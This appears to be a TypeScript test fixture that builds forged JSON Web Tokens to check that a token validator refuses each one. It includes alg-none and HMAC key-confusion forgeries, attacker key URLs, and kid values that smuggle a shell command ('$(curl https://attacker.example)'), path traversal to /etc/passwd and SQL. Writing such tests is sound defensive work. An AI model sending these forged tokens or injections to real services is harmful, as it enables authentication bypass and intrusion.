import {
  constants,
  createHash,
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  publicEncrypt,
  randomBytes,
  sign,
  type JsonWebKey,
  type KeyObject,
} from 'node:crypto';
import type { ErrorCode } from '#utilities/errors/catalogue.js';
import { encoded } from './token-factory.js';

/** What a good token is made of. `privateKey` is an RSA key and signs RS256. */
export interface ValidToken {
  readonly header: Readonly<Record<string, unknown>>;
  readonly payload: Readonly<Record<string, unknown>>;
  readonly privateKey: KeyObject;
  readonly publicJwk: JsonWebKey;
}

export interface HostileToken {
  /** The idea of the attack; every family has at least one token. */
  readonly family: string;
  readonly name: string;
  readonly token: string;
  /** Any of these is the right refusal. */
  readonly codes: readonly ErrorCode[];
}

type Json = Readonly<Record<string, unknown>>;
type Entry = Omit<HostileToken, 'family'>;

/** Tokens that attackers are known to send, each made from a good one. Nothing may accept any of them. */
export function hostileTokens(valid: ValidToken): HostileToken[] {
  const families: Readonly<Record<string, readonly Entry[]>> = {
    'alg none': algorithmNone(valid),
    'algorithm spelt otherwise': misspeltAlgorithms(valid),
    'null signature': nullSignatures(valid),
    'blank HMAC key': hmacs(valid, { blank: Buffer.alloc(0), zero: Buffer.alloc(1) }),
    'guessed HMAC secret': hmacs(valid, {
      secret: Buffer.from('secret'),
      'your-256-bit-secret': Buffer.from('your-256-bit-secret'),
    }),
    'RSA key as HMAC secret': hmacs(valid, publishedForms(valid.publicJwk)),
    'embedded key': embeddedKeys(valid),
    'spoofed key address': keyAddresses(valid),
    'kid injection': keyIdInjections(valid),
    'critical header': criticalHeaders(valid),
    'another signer': otherSigners(valid),
    'changed claim': changedClaims(valid),
    'duplicate member': duplicates(valid),
    'forged time': forgedTimes(valid),
    'other serialisation': otherShapes(valid),
  };
  return Object.entries(families).flatMap(([family, entries]) => entries.map((entry) => ({ family, ...entry })));
}

const ALGORITHM: readonly ErrorCode[] = ['TOKEN_ALGORITHM_NOT_ALLOWED'];
const MALFORMED: readonly ErrorCode[] = ['TOKEN_MALFORMED'];
const FORBIDDEN: readonly ErrorCode[] = ['TOKEN_HEADER_FORBIDDEN'];
const SIGNATURE: readonly ErrorCode[] = ['TOKEN_SIGNATURE_INVALID'];

const input = (header: Json | string, payload: Json | string): string => `${encoded(header)}.${encoded(payload)}`;
const signedWith = (key: KeyObject, text: string): string =>
  `${text}.${sign('sha256', Buffer.from(text), key).toString('base64url')}`;
const signed = ({ privateKey }: ValidToken, header: Json | string, payload: Json | string): string =>
  signedWith(privateKey, input(header, payload));

function algorithmNone({ header, payload }: ValidToken): Entry[] {
  return ['none', 'None', 'NONE', 'nOnE'].flatMap((alg) => [
    { name: `${alg} without a signature`, token: `${input({ ...header, alg }, payload)}.`, codes: [...MALFORMED, ...ALGORITHM] },
    { name: `${alg} with any signature`, token: `${input({ ...header, alg }, payload)}.AAAA`, codes: ALGORITHM },
  ]);
}

function misspeltAlgorithms(valid: ValidToken): Entry[] {
  const spellings = ['', 'rs256', 'RS256 ', 'RS-256', 'RSA256', 'SHA256withRSA', ['RS256'], null, 256, undefined];
  return spellings.map((alg) => ({
    name: alg === undefined ? 'absent' : JSON.stringify(alg),
    token: signed(valid, { ...valid.header, alg }, valid.payload),
    codes: ALGORITHM,
  }));
}

function nullSignatures({ header, payload, privateKey }: ValidToken): Entry[] {
  const text = input(header, payload);
  const length = sign('sha256', Buffer.from(text), privateKey).length;
  const of = (name: string, bytes: Buffer, codes = SIGNATURE): Entry => ({
    name,
    token: `${text}.${bytes.toString('base64url')}`,
    codes,
  });
  return [
    { name: 'empty', token: `${text}.`, codes: MALFORMED },
    { name: 'left out', token: text, codes: MALFORMED },
    of('one zero byte', Buffer.alloc(1)),
    of('all zeros', Buffer.alloc(length)),
    of('all ones', Buffer.alloc(length, 0xff)),
    of('the number one', Buffer.concat([Buffer.alloc(length - 1), Buffer.of(1)])),
    of('chance', randomBytes(length)),
  ];
}

function hmacs({ header, payload }: ValidToken, secrets: Readonly<Record<string, Buffer>>): Entry[] {
  return Object.entries(secrets).flatMap(([name, secret]) =>
    ['HS256', 'HS384', 'HS512'].map((alg) => {
      const text = input({ ...header, alg }, payload);
      const mac = createHmac(`sha${alg.slice(2)}`, secret)
        .update(text)
        .digest('base64url');
      return { name: `${alg}, ${name}`, token: `${text}.${mac}`, codes: ALGORITHM };
    }),
  );
}

/** Everything under which the published key is at hand as bytes. */
function publishedForms(jwk: JsonWebKey): Readonly<Record<string, Buffer>> {
  const key = createPublicKey({ key: jwk, format: 'jwk' });
  const pem = key.export({ type: 'spki', format: 'pem' }).toString();
  const thumbprint = createHash('sha256')
    .update(JSON.stringify({ e: jwk.e, kty: jwk.kty, n: jwk.n }))
    .digest();
  return {
    PEM: Buffer.from(pem),
    'PEM without the last line break': Buffer.from(pem.trimEnd()),
    'PEM after white space': Buffer.from(` \n${pem}`),
    'PEM with CRLF': Buffer.from(pem.replaceAll('\n', '\r\n')),
    'PEM with a byte order mark': Buffer.from(`\ufeff${pem}`),
    'PKCS#1 PEM': Buffer.from(key.export({ type: 'pkcs1', format: 'pem' }).toString()),
    DER: key.export({ type: 'spki', format: 'der' }),
    'JWK text': Buffer.from(JSON.stringify(jwk)),
    modulus: Buffer.from(jwk.n ?? '', 'base64url'),
    'modulus text': Buffer.from(jwk.n ?? ''),
    thumbprint,
  };
}

function attacker(): { privateKey: KeyObject; publicJwk: JsonWebKey; x5c: readonly string[] } {
  const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  return {
    privateKey,
    publicJwk: publicKey.export({ format: 'jwk' }),
    x5c: [publicKey.export({ type: 'spki', format: 'der' }).toString('base64')],
  };
}

function embeddedKeys({ header, payload }: ValidToken): Entry[] {
  const { privateKey, publicJwk, x5c } = attacker();
  const with_ = (name: string, more: Json): Entry => ({
    name,
    token: signedWith(privateKey, input({ ...header, ...more }, payload)),
    codes: FORBIDDEN,
  });
  return [
    with_('jwk', { jwk: publicJwk }),
    with_('jwk with the same kid', { jwk: { ...publicJwk, kid: header['kid'] } }),
    with_('x5c', { x5c }),
    with_('an empty jwk', { jwk: null }),
  ];
}

function keyAddresses({ header, payload }: ValidToken): Entry[] {
  const { privateKey } = attacker();
  const addresses = [
    'https://attacker.example/jwks.json',
    'http://127.0.0.1:9/jwks',
    'file:///etc/passwd',
    '//attacker.example',
    '',
  ];
  return ['jku', 'x5u'].flatMap((name) =>
    addresses.map((address) => ({
      name: `${name} ${address}`,
      token: signedWith(privateKey, input({ ...header, [name]: address }, payload)),
      codes: FORBIDDEN,
    })),
  );
}

function keyIdInjections({ header, payload }: ValidToken): Entry[] {
  const kids = {
    blank: '',
    traversal: '../../../../../../etc/passwd',
    'null device': '/dev/null',
    'bad path': '/invalid/path/for/testing',
    sleep: '/dev/null; sleep 15;',
    command: '$(curl https://attacker.example)',
    SQL: "' UNION SELECT 'key'; -- ",
    'line break': 'key\r\nX-Forged: 1',
    'zero byte': 'key\u0000',
    prototype: '__proto__',
  };
  const { privateKey } = attacker();
  const codes: readonly ErrorCode[] = ['TOKEN_KEY_UNKNOWN', 'TOKEN_KEY_ID_MISSING', 'ISSUER_KEYS_UNAVAILABLE'];
  const texts = Object.entries(kids).map(([name, kid]) => ({
    name,
    token: signedWith(privateKey, input({ ...header, kid }, payload)),
    codes,
  }));
  const others = [null, 0, ['k'], {}].map((kid) => ({
    name: JSON.stringify(kid),
    token: signedWith(privateKey, input({ ...header, kid }, payload)),
    codes: ['TOKEN_KEY_ID_MISSING'] as const,
  }));
  return [...texts, ...others];
}

function criticalHeaders(valid: ValidToken): Entry[] {
  const shapes: readonly Json[] = [
    { crit: ['exp'] },
    { crit: [] },
    { crit: 'exp' },
    { crit: null },
    { crit: {} },
    { crit: ['b64'], b64: false },
    { crit: ['b64'], b64: true },
    { b64: false },
    { crit: ['kid'] },
    { crit: [1] },
    { zip: 'DEF' },
    { enc: 'A256GCM' },
  ];
  return shapes.map((more) => ({
    name: JSON.stringify(more),
    token: signed(valid, { ...valid.header, ...more }, valid.payload),
    codes: FORBIDDEN,
  }));
}

function otherSigners({ header, payload, publicJwk }: ValidToken): Entry[] {
  const text = input(header, payload);
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const es256 = input({ ...header, alg: 'ES256' }, payload);
  const ecSignature = sign('sha256', Buffer.from(es256), { key: ec.privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url');
  const encrypted = publicEncrypt(
    { key: createPublicKey({ key: publicJwk, format: 'jwk' }), padding: constants.RSA_PKCS1_PADDING },
    createHash('sha256').update(text).digest(),
  );
  return [
    { name: 'another RSA key', token: signedWith(attacker().privateKey, text), codes: SIGNATURE },
    { name: 'an elliptic key', token: `${es256}.${ecSignature}`, codes: [...ALGORITHM, ...SIGNATURE] },
    { name: 'the hash encrypted to the public key', token: `${text}.${encrypted.toString('base64url')}`, codes: SIGNATURE },
  ];
}

function changedClaims({ header, payload, privateKey }: ValidToken): Entry[] {
  const signature = signedWith(privateKey, input(header, payload)).split('.')[2] ?? '';
  const changes: readonly Json[] = [{ sub: 'admin' }, { roles: ['Admin'] }, { exp: 2 ** 33 }, { scp: 'admin' }];
  const spliced = changes.map((change) => ({
    name: JSON.stringify(change),
    token: `${input(header, { ...payload, ...change })}.${signature}`,
    codes: SIGNATURE,
  }));
  return [...spliced, { name: 'header', token: `${input({ ...header, x: 1 }, payload)}.${signature}`, codes: SIGNATURE }];
}

function duplicates(valid: ValidToken): Entry[] {
  const { header, payload } = valid;
  const prefixed = (members: string, rest: Json): string => `{${members},${JSON.stringify(rest).slice(1)}`;
  return [
    { name: 'sub', token: signed(valid, header, prefixed('"sub":"admin"', payload)), codes: MALFORMED },
    { name: 'escaped aud', token: signed(valid, header, prefixed('"\\u0061ud":"x"', payload)), codes: MALFORMED },
    { name: 'alg', token: signed(valid, prefixed('"alg":"none"', header), payload), codes: MALFORMED },
    { name: '__proto__', token: signed(valid, header, prefixed('"__proto__":{"sub":"admin"}', payload)), codes: MALFORMED },
  ];
}

function forgedTimes(valid: ValidToken): Entry[] {
  const { header, payload } = valid;
  const exp = (value: string): string => JSON.stringify({ ...payload, exp: 0 }).replace('"exp":0', `"exp":${value}`);
  return [
    { name: 'no exp', token: signed(valid, header, { ...payload, exp: undefined }), codes: ['TOKEN_CLAIM_INVALID'] },
    { name: 'exp as text', token: signed(valid, header, exp('"4102444800"')), codes: ['TOKEN_CLAIM_INVALID'] },
    { name: 'infinite exp', token: signed(valid, header, exp('1e400')), codes: MALFORMED },
    { name: 'exp beyond all dates', token: signed(valid, header, exp('9e15')), codes: ['TOKEN_CLAIM_INVALID'] },
    { name: 'expired', token: signed(valid, header, { ...payload, exp: 1, iat: 0, nbf: 0 }), codes: ['TOKEN_EXPIRED'] },
  ];
}

function otherShapes({ header, payload, privateKey }: ValidToken): Entry[] {
  const token = signedWith(privateKey, input(header, payload));
  const [protectedHeader, body, signature] = token.split('.');
  return [
    {
      name: 'JSON serialisation',
      token: JSON.stringify({ protected: protectedHeader, payload: body, signature }),
      codes: MALFORMED,
    },
    { name: 'padding', token: `${token}=`, codes: MALFORMED },
    { name: 'a fourth part', token: `${token}.`, codes: MALFORMED },
    { name: 'five parts', token: `${token}.AAAA.AAAA`, codes: MALFORMED },
    { name: 'dots', token: '.'.repeat(2000), codes: MALFORMED },
    {
      name: 'larger than 16 KiB',
      token: `${protectedHeader ?? ''}.${'A'.repeat(16_384)}.${signature ?? ''}`,
      codes: ['TOKEN_TOO_LARGE'],
    },
  ];
}
